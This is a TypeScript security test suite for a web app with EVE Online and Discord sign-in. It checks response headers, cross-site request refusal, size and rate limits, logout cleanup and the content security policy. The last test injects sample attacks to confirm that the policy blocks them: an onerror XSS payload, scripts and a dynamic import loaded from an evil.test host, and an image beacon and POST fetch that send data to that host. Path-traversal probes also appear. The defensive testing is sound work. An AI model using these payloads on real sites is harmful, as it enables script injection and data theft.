import type { OutgoingHttpHeaders } from "node:http";
import { PORT } from "./port.ts";
import { enter, signIn } from "./api-session.ts";
import { expect, logOut, pilotName, test } from "./product.ts";
import { send } from "./raw-request.ts";
import type { Answer } from "./raw-request.ts";

// Security properties of the built product as seen over the wire.

const ORIGIN = `http://localhost:${PORT}`;
const KIB = 1024;

const COMMON = {
  "cross-origin-resource-policy": "same-origin",
  "strict-transport-security": "max-age=31536000",
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "strict-origin-when-cross-origin",
  "permissions-policy": "camera=(), geolocation=(), microphone=(), payment=()",
};
const OF_THE_API = {
  ...COMMON,
  "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
};

test("documents, assets, redirects and refusals carry the security headers", async () => {
  const home = await send("GET", "/");
  const [, script = ""] = home.text.match(/src="(\/assets\/[^"]+\.js)"/) ?? [];
  const asked: [method: string, path: string, status: number][] = [
    ["GET", "/", 200],
    ["HEAD", "/", 200],
    ["GET", "/dashboard", 200],
    ["GET", "/groups/%2e%2e/nothing", 404],
    ["GET", "/nothing-here.php", 404],
    ["GET", "//elsewhere.test/", 307],
    ["GET", "/index.html", 307],
    ["GET", "/%61pi/auth/session", 307],
    ["POST", "/", 405],
    ["DELETE", "/dashboard", 405],
    ["GET", script, 200],
    ["GET", "/favicon.svg", 200],
  ];
  for (const [method, path, status] of asked) {
    const answer = await send(method, path);
    expect([path, answer.status]).toEqual([path, status]);
    expect(answer.headers, path).toMatchObject(COMMON);
    expect(answer.headers["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
    const policy = answer.headers["content-security-policy"] ?? "";
    // Three scripts stand in the pages: they set the theme, and choose the language of what the build has drawn.
    expect(policy).toMatch(
      /^default-src 'none'; script-src 'self'(?: 'sha256-[\w+/]{43}='){3}; style-src 'self'; /,
    );
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toMatch(/; connect-src 'self' \S+\/api\/oauth2\/token; /);
    expect(policy).toContain("; require-trusted-types-for 'script'; trusted-types 'none'");
    expect(policy).not.toMatch(/unsafe-|\*/);
    const { location } = answer.headers;
    if (location !== undefined) expect(location).toMatch(/^\/(?!\/)/);
  }
});

test("the Discord callback page keeps its opener, with all other policies unchanged", async () => {
  const [home, callback] = [await send("GET", "/"), await send("GET", "/discord/callback")];
  expect(callback.headers["cross-origin-opener-policy"]).toBe(undefined);
  expect(callback.headers).toMatchObject(COMMON);
  const policyOf = ({ headers }: Answer) => headers["content-security-policy"];
  expect(policyOf(callback)).toBe(policyOf(home));
});

test("every API response carries the security headers and forbids caching", async () => {
  const json = { "content-type": "application/json" };
  const asked: [string, string, number, Parameters<typeof send>[2]?][] = [
    ["GET", "/api/auth/session", 200],
    ["HEAD", "/api/auth/session", 200],
    ["OPTIONS", "/api/auth/session", 204],
    ["POST", "/api/auth/session", 405],
    ["GET", "/api", 404],
    ["GET", "/api/", 404],
    ["GET", "/api//auth/session", 404],
    ["GET", "/api/auth/session/", 404],
    ["GET", "/api/auth/session%00", 404],
    ["GET", "/api/auth/%73ession", 200],
    ["GET", "/elsewhere/../api/auth/sessions", 401],
    ["GET", "/api/auth/sessions", 401],
    ["GET", "/api/groups/%E0%A4%A", 401],
    ["GET", "/api/skills?ids=x", 400],
    ["POST", "/api/auth/claim-main", 400, { headers: json, body: ["{"] }],
    ["POST", "/api/auth/claim-main", 415, { headers: { "content-type": "text/xml" }, body: ["<"] }],
    ["POST", "/api/auth/logout", 204],
  ];
  for (const [method, path, status, init] of asked) {
    const answer = await send(method, path, init);
    expect([method, path, answer.status]).toEqual([method, path, status]);
    expect(answer.headers, path).toMatchObject({ ...OF_THE_API, "cache-control": "no-store" });
    expect(answer.headers["x-request-id"]).toMatch(/^[\da-f-]{36}$/);
    expect(answer.headers["access-control-allow-origin"]).toBe(undefined);
    if (status >= 400 && method !== "HEAD") {
      const body: object = JSON.parse(answer.text);
      expect(Object.keys(body)).toEqual(["error"]);
    }
  }
});

test("no alternative spelling of a path reaches the API around the Worker", async () => {
  for (const path of ["//api/auth/sessions", "/API/auth/sessions", "/api%2fauth/sessions"]) {
    const { status, text } = await send("GET", path);
    expect(text.startsWith("<!doctype html>") || status === 307).toBe(true);
  }
});

test("cross-site writes are refused in every browser", async () => {
  const start = (headers: OutgoingHttpHeaders) =>
    send("POST", "/api/auth/login/start", { headers });
  for (const headers of [
    { "sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors" },
    { "sec-fetch-site": "same-site", origin: ORIGIN },
    { "sec-fetch-site": "cross-site", "x-http-method-override": "GET" },
    { origin: "https://evil.test" },
    { origin: "null" },
  ]) {
    const answer = await start(headers);
    expect(answer.status).toBe(403);
    expect(answer.headers).toMatchObject(OF_THE_API);
    expect(answer.headers["set-cookie"]).toBe(undefined);
  }
  expect((await start({ "sec-fetch-site": "same-origin", origin: ORIGIN })).status).toBe(200);
  expect((await start({ origin: ORIGIN })).status).toBe(200);

  const back = (site: string) =>
    send("GET", "/api/auth/callback?code=x&state=y", { headers: { "sec-fetch-site": site } });
  expect((await back("cross-site")).status).toBe(403);
  expect((await back("same-origin")).status).toBe(400);
});

test("method override headers are ignored", async () => {
  const override = { "x-http-method-override": "POST", "x-method-override": "POST" };
  const answer = await send("GET", "/api/auth/login/start", { headers: override });
  expect(answer.status).toBe(405);
});

test("a request body over 64 KiB is refused, with or without Content-Length", async () => {
  const claim = (padding: number, isChunked: boolean) => {
    const text = JSON.stringify({ characterId: 1, padding: "x".repeat(padding) });
    const length = isChunked ? {} : { "content-length": text.length };
    const headers = { "content-type": "application/json", ...length };
    return send("POST", "/api/auth/claim-main", {
      headers,
      body: [text.slice(0, 9), text.slice(9)],
    });
  };
  for (const isChunked of [true, false]) {
    expect((await claim(60 * KIB, isChunked)).status).toBe(400);
    const refused = await claim(64 * KIB, isChunked);
    expect(refused.status).toBe(413);
    expect(refused.headers).toMatchObject(OF_THE_API);
    expect(JSON.parse(refused.text)).toMatchObject({ error: { code: "payload_too_large" } });
    // The Worker refuses before the body has arrived. vite preview may fail the next request on that connection.
    await send("GET", "/api/health");
  }
});

test("a client over its rate limit gets 429 with Retry-After, and other clients are not affected", async () => {
  const from = (address: string) =>
    send("POST", "/api/auth/login/start", { headers: { "cf-connecting-ip": address } });
  let answer = await from("198.51.100.7");
  for (let sent = 1; sent < 250 && answer.status === 200; sent += 1) {
    answer = await from("198.51.100.7");
  }
  expect(answer.status).toBe(429);
  expect(answer.headers["retry-after"]).toBe("60");
  expect(answer.headers).toMatchObject(OF_THE_API);
  expect((await from("198.51.100.8")).status).toBe(200);
});

test("after a logout, a shared computer has nothing of the person who used it", async ({
  page,
}) => {
  await signIn(page, "Aurelia Voss");
  await page.goto("/groups/create");
  await page.getByLabel("Name").fill("Half a draft");
  await page.goto("/admin/pilots");
  await page.getByLabel("Character").fill("Mira Tal");
  await page.getByLabel("Character").press("Enter");
  await page.getByRole("link", { name: "Mira Tal" }).first().click();
  await page.getByRole("heading", { level: 1 }).waitFor();
  await page.goto("/dashboard");
  await page.evaluate(() => localStorage.setItem("muster.screen.charactersView", "cards"));
  await logOut(page);
  const kept = await page.evaluate(async () => ({
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    cookies: document.cookie,
    caches: await caches.keys(),
    databases: await indexedDB.databases(),
  }));
  expect(kept).toEqual({
    local: ["muster.screen.charactersView"],
    session: [],
    cookies: "",
    caches: [],
    databases: [],
  });
  for (const cookie of await page.context().cookies()) expect(cookie.httpOnly).toBe(true);
  await page.goBack();
  await expect(page.getByRole("button", { name: "Log in with EVE Online" })).toBeVisible();
  await expect(page.getByRole("button", { name: "Logout" })).toHaveCount(0);
});

test("the sign-in cookie is HttpOnly and SameSite", async () => {
  const { headers } = await send("POST", "/api/auth/login/start");
  expect(headers["set-cookie"]).toHaveLength(1);
  expect(headers["set-cookie"]?.[0]).toMatch(/HttpOnly; SameSite=Lax$/);
});

test("the content security policy blocks and reports scripts, styles, frames, pictures and requests", async ({
  page,
  newEden,
  expectedErrors,
}) => {
  const name = pilotName("Injector");
  await newEden.createPilot({ name });
  await enter(page, name);
  const policy = String((await send("GET", "/")).headers["content-security-policy"]);
  const [, tokenUrl = ""] = /connect-src 'self' (\S+);/.exec(policy) ?? [];
  // The attacks start here; before this point, any report fails the test.
  expectedErrors.push(
    /Content Security Policy/,
    /'Trusted(HTML|Script|ScriptURL)'/,
    /status of 400/,
    /^Asked evil.test$/,
  );
  const violated = await page.evaluate(async (discordTokenUrl) => {
    const reports: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      reports.push(effectiveDirective),
    );
    const add = (tag: string, attributes: Record<string, string>, text = "") => {
      const element = document.createElement(tag);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      element.append(text);
      document.body.append(element);
    };
    const failureOf = (attack: () => unknown) => {
      try {
        attack();
        return "none";
      } catch (error) {
        return error instanceof Error ? error.name : "unknown";
      }
    };
    const failures = [
      () => add("script", { src: "https://evil.test/x.js" }),
      () => (document.body.innerHTML = "<img src=x onerror=alert(1)>"),
      () => document.write("<p>"),
    ].map(failureOf);
    add("script", {}, "globalThis.isOwned = true");
    add("style", {}, "body { display: none }");
    add("p", { style: "color: red" });
    add("iframe", { src: "/" });
    add("img", { src: "https://evil.test/x.png?stolen" });
    const isSent = (url: string) =>
      fetch(url, { method: "POST" }).then(
        () => true,
        () => false,
      );
    const foreign: string = "https://evil.test/x.js";
    await import(foreign).catch(() => {});
    const sent = {
      evil: await isSent("https://evil.test/"),
      discord: await isSent(discordTokenUrl.replace("/token", "/token/revoke")),
      token: await isSent(discordTokenUrl),
    };
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { reports, failures, sent, isOwned: "isOwned" in globalThis };
  }, tokenUrl);
  expect(violated.isOwned).toBe(false);
  expect(violated.failures).toEqual(["TypeError", "TypeError", "TypeError"]);
  expect(violated.sent).toEqual({ evil: false, discord: false, token: true });
  expect([...new Set(violated.reports)].toSorted()).toEqual([
    "connect-src",
    "frame-src",
    "img-src",
    "require-trusted-types-for",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
  ]);
});
